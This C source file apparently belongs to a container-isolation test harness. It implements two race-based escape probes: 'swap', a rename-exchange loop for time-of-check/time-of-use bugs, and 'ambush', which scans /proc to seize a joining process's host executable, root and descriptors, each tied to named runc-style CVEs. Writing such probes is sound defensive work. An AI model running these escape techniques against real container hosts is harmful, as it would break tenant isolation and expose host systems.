// Attackers that need an accomplice or luck: the driver runs them while jails start, or while processes join one.
#include "probe.h"
#include <stdio.h>
#include <dirent.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

// swap A B SECONDS: exchanges two paths as fast as it can, so that what was checked is not what is used
// (CVE-2021-30465, CVE-2025-31133, CVE-2025-52565, CVE-2025-52881). The jail's start must hold what it checked by
// descriptor. Runs on the host's side, in a rootfs or volume that a tenant is supposed to control.
static int swap(int argc, char **argv) {
    long count = 0;
    if (argc < 3) return 3;
    for (double end = now() + strtod(argv[2], NULL); now() < end;)
        for (int i = 0; i < 64; i++)
            if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) == 0) count++;
    printf("swapped %ld times\n", count);
    return count ? 0 : 3;
}

static int open_of(const char *pid, const char *what, int flags) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
    return open(path, flags | O_CLOEXEC | O_NONBLOCK);
}

static void seize_directory(const char *pid, const char *what) {
    int directory = open_of(pid, what, O_PATH | O_DIRECTORY);
    if (directory < 0) return;
    if (leads_outside(directory)) escaped("/proc/%s/%s of a joining process leads outside", pid, what);
    close(directory);
}

static void seize_descriptors(const char *pid) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *directory = opendir(path);
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
        snprintf(path, sizeof path, "fd/%.200s", entry->d_name);
        if (entry->d_name[0] != '.') seize_directory(pid, path);
    }
    if (directory) closedir(directory);
}

// Whatever the launcher runs while it joins must be out of reach until it executes the guest's program.
static void seize(const char *pid, void *own) {
    if (!strcmp(pid, own) || !strcmp(pid, "1")) return;
    int program = open_of(pid, "exe", O_RDONLY);
    if (program >= 0 && !is_guest_program(program)) escaped("program of joining process %s can be read", pid);
    if (program >= 0) close(program);
    seize_directory(pid, "root");
    seize_directory(pid, "cwd");
    seize_descriptors(pid);
}

static void wait_for_prey(const char *seconds) {
    char own[16];
    long rounds = 0;
    snprintf(own, sizeof own, "%d", getpid());
    for (double end = now() + strtod(seconds, NULL); now() < end; rounds++) each_process(seize, own);
    blocked("looked %ld times", rounds);
}

// ambush SECONDS: lies in wait for processes that join the jail (`exec`, `enter`) and takes from them what still is of
// the host: program, root, descriptors (CVE-2016-9962, CVE-2019-5736). Gives a verdict as a probe does; SECONDS must
// be less than a probe's timeout.
static int ambush(int argc, char **argv) {
    const struct probe probe = {.name = "ambush", .attempt = wait_for_prey, .subject = argc > 0 ? argv[0] : "5"};
    return run_probe(&probe, "");
}

const struct tool race_tools[] = {
    {"swap", "A B SECONDS", swap},
    {"ambush", "SECONDS", ambush},
    {0},
};
